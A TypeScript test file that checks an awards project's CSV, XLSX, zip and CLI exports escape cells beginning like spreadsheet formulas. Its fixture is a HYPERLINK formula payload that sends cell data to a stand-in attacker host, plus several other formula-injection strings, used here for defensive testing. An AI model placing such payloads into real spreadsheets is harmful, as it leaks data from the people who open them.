import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defuseCell } from '../../src/services/exports/cells.ts';
import { awardInState } from '../api/helpers.ts';
import { prestasi } from '../cli/run-cli.ts';
import { createTestApp, type TestApp } from '../support/app.ts';

// Formula injection: text typed by an operator (or taken from the news) that starts like a
// formula must reach every spreadsheet the project writes as text — the public open-data CSV and
// zip, the showcase download, the award and recap exports (CSV and XLSX) and the CLI package.

const TITLE = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")';
const HOSTILE = { title: TITLE, programme: '+1+1', place: '@SUM(1+1)', rank: '-2+3', category: '\t=1+1' };

describe('every CSV and XLSX cell that looks like a formula goes out as text', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
    await awardInState(t, 'verified', t.units.dinkes.id, HOSTILE);
  });
  afterAll(() => t.close());

  const csvCells = (text: string) => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
  function assertDefused(cells: unknown[], where: string) {
    const texts = cells.filter((c): c is string => typeof c === 'string');
    expect(texts, where).toContain(`'${TITLE}`);
    for (const c of texts) expect(c, `${where}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
  }

  it('defuses the four formula starts, tab and CR, and leaves plain text and numbers alone', () => {
    for (const s of ['=1', '+1', '-1', '@A1', '\t=1', '\r=1']) expect(defuseCell(s)).toBe(`'${s}`);
    expect(defuseCell('Juara 1')).toBe('Juara 1');
    expect(defuseCell(-5)).toBe(-5);
    expect(defuseCell(null)).toBeNull();
  });

  it('in the public open-data CSV, its zip and the showcase download', async () => {
    const csv = await t.call('public', 'GET', '/api/v1/exports/open-data/penghargaan.csv?region=36.71');
    expect(csv.status).toBe(200);
    assertDefused(csvCells(csv.text), 'open-data csv');
    const res = await t.app.request('/api/v1/exports/open-data.zip?region=36.71');
    const zip = await JSZip.loadAsync(await res.arrayBuffer());
    assertDefused(csvCells(await zip.file('penghargaan.csv')!.async('string')), 'open-data zip');
    const showcase = await t.call('public', 'GET', '/data/penghargaan.csv');
    expect(showcase.status).toBe(200);
    assertDefused(csvCells(showcase.text), 'showcase csv');
  });

  it('in the award exports, CSV and XLSX', async () => {
    const csv = await t.call('admin', 'GET', '/api/v1/exports/awards.csv?year=2025');
    assertDefused(csvCells(csv.text), 'awards csv');
    const res = await t.app.request('/api/v1/exports/awards.xlsx?year=2025', {
      headers: { authorization: `Bearer ${t.tokens.admin}` },
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const cells: unknown[] = [];
    wb.worksheets[0].eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(cell.value);
      });
    });
    assertDefused(cells, 'awards xlsx');
  });

  it('in the package written by `prestasi export --open-data`', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'prestasi-opendata-'));
    const r = await prestasi(['export', '--open-data', dir], { databaseUrl: t.db.url });
    expect(r.code, r.stderr).toBe(0);
    assertDefused(csvCells(readFileSync(join(dir, 'penghargaan.csv'), 'utf8')), 'cli open-data');
  });
});
